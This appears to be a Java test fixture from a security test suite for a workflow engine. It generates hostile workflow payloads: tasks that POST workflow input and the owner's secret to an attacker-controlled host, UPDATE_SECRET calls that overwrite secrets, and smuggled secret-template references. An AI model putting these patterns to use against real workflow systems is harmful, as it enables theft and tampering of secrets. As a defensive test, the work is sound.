package io.tacet.e2e.flow;

import static io.tacet.e2e.Definitions.http;
import static io.tacet.e2e.Definitions.post;
import static io.tacet.e2e.Definitions.task;
import static io.tacet.e2e.Definitions.with;

import io.tacet.e2e.Definitions;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;

/** What the attacker sends where data is expected: the members of {@link Payload}, full of the plan's lures. */
final class HostilePayload {
    /** Stands in whatever the attacker sends. */
    static final String SIGNATURE = "of somebody else";

    private final Plan plan;
    private final Names names;
    private final Set<String> seen;
    private final AtomicInteger made = new AtomicInteger();

    /** @param seen handles and marks that the attacker has seen so far; grows */
    HostilePayload(Plan plan, Names names, Set<String> seen) {
        this.plan = plan;
        this.names = names;
        this.seen = seen;
    }

    Map<String, Object> next() {
        Map<String, Object> payload = new LinkedHashMap<>(Map.of(
                "data",
                bag(),
                "text",
                "text for " + names.tag() + " " + SIGNATURE + " " + bag().values(),
                "choice",
                plan.seed() % 2 == 0 ? Payload.CHOICE : "another",
                "which",
                plan.seed() % 2 == 0 ? names.grab() : names.listed(),
                "list",
                List.of(bag(), bag()),
                "definition",
                unchecked()));
        // What some lures are made of.
        payload.putAll(Map.of(
                "name",
                names.secret(),
                "half",
                "${workflow.secrets.",
                "inner",
                "workflow.secrets." + names.secret(),
                "member",
                Author.HONEST));
        List<Map<String, Object>> tasks = new ArrayList<>();
        Map<String, Object> inputs = new LinkedHashMap<>();
        for (Forked forked : plan.forks()) {
            Map<String, Object> task = forked(forked, "evil" + made.incrementAndGet());
            tasks.add(task);
            // The engine takes inputs from both places.
            if (plan.seed() % 3 == 0) {
                inputs.put((String) task.get("taskReferenceName"), task.get("inputParameters"));
                task.put("inputParameters", Map.of());
            }
        }
        payload.put("tasks", tasks);
        payload.put("inputs", inputs);
        return payload;
    }

    /** All lures, each under a name of its own. */
    Map<String, Object> bag() {
        Map<String, Object> bag = new LinkedHashMap<>();
        for (String lure : plan.lures()) {
            Object text = lure.equals(Lures.SEEN) ? List.copyOf(seen) : lure.replace(Lures.SECRET, names.secret());
            bag.put("l" + bag.size(), text);
        }
        return bag;
    }

    /** Without references, which registration refuses. */
    Map<String, Object> bagOfData() {
        Map<String, Object> bag = bag();
        bag.values().removeIf(lure -> lure.toString().contains("workflow.secrets."));
        return bag;
    }

    /** The input template of a task definition. If it is that of an HTTP task, the request is another one. */
    Map<String, Object> template(Map<String, Object> bag) {
        return with(bag, Map.of("http_request", request(names.other() + "/template", bag)));
    }

    /** A workflow that sends its input to the attacker. The engine would refuse lures over tasks that it does not have. */
    Map<String, Object> definition(String name) {
        return definition(name, Map.of());
    }

    /** A workflow that the owner will run: it sends the secret to the attacker, and overwrites it. Both are optional, so that one may fail. */
    Map<String, Object> theirs(Step step) {
        Map<String, Object> optional = Map.of("optional", true);
        return Definitions.workflow(
                names.theirs(step),
                with(post("out", names.other() + "/theirs", Map.of("what", names.reference())), optional),
                with(overwrite("store"), optional));
    }

    /** UPDATE_SECRET of the owner's secret. */
    Map<String, Object> overwrite(String ref) {
        return task(
                ref,
                "UPDATE_SECRET",
                Map.of("_secrets", Map.of("secretKey", names.secret(), "secretValue", "overwritten")));
    }

    /** As data nobody looks at it. */
    private Map<String, Object> unchecked() {
        return definition(names.own(), bag());
    }

    private Map<String, Object> definition(String name, Map<String, Object> lures) {
        Map<String, Object> all = with(lures, Map.of("all", "${workflow.input}"));
        return Definitions.workflow(
                name,
                post("out", names.other() + "/own", all),
                with(task("work", "SIMPLE", all), Map.of("name", names.grab())));
    }

    private Map<String, Object> forked(Forked forked, String ref) {
        return new LinkedHashMap<>(
                switch (forked) {
                    case CALL -> calling(ref, names.other() + "/forked");
                    case OWNERS_SERVICE -> calling(ref, names.service() + "/forged");
                    case WORK -> with(task(ref, "SIMPLE", bag()), Map.of("name", names.grab()));
                    case OWNERS_WORK ->
                        with(
                                task(ref, "SIMPLE", with(bag(), Map.of(Author.HONEST, bag()))),
                                Map.of("name", names.work()));
                    case OVERWRITE -> overwrite(ref);
                    case NAMESAKE -> with(calling(namesake(), names.other() + "/forked"), Map.of("name", names.http()));
                    case CHILD ->
                        with(
                                task(ref, "SUB_WORKFLOW", bag()),
                                Map.of(
                                        "subWorkflowParam",
                                        Map.of("name", names.own(), "version", 1, "workflowDefinition", unchecked())));
                    case START ->
                        task(
                                ref,
                                "START_WORKFLOW",
                                Map.of("startWorkflow", Map.of("name", names.own(), "version", 1, "input", bag())));
                    case TELL -> with(task(ref, "EVENT", bag()), Map.of("sink", "conductor:" + names.own()));
                    case SCRIPT ->
                        task(
                                ref,
                                "INLINE",
                                with(
                                        bag(),
                                        Map.of(
                                                "evaluatorType",
                                                "graaljs",
                                                "expression",
                                                "(function () { return JSON.stringify($).split('').reverse().join(''); })();")));
                    case KEEP -> task(ref, "SET_VARIABLE", Map.of(ref, bag()));
                    case DYNAMIC ->
                        with(
                                task(ref, "DYNAMIC", with(bag(), Map.of("which", names.grab()))),
                                Map.of("dynamicTaskNameParam", "which"));
                    case BOMB -> plan.bombs(Bomb.BARE, 1).getFirst().planted(Bounds.BOMB + ref, names);
                });
    }

    private Map<String, Object> calling(String ref, String uri) {
        return http(ref, request(uri, bag()));
    }

    /** As it is written, or as the engine may cut it off in loops. */
    private String namesake() {
        return plan.of(Set.of(Kind.CALL, Kind.ECHO, Kind.USE)).stream()
                        .map(Step::ref)
                        .reduce("s1", (first, last) -> last)
                + List.of("", "__1", "__x").get(Math.floorMod(plan.seed(), 3));
    }

    private static Map<String, Object> request(String uri, Map<String, Object> bag) {
        return Map.of("uri", uri, "method", "POST", "headers", headers(bag), "body", bag);
    }

    private static Map<String, Object> headers(Map<String, Object> bag) {
        Map<String, Object> headers = new LinkedHashMap<>();
        bag.forEach((name, lure) -> {
            if (lure instanceof String) {
                headers.put("X-" + name, lure);
            }
        });
        return headers;
    }
}
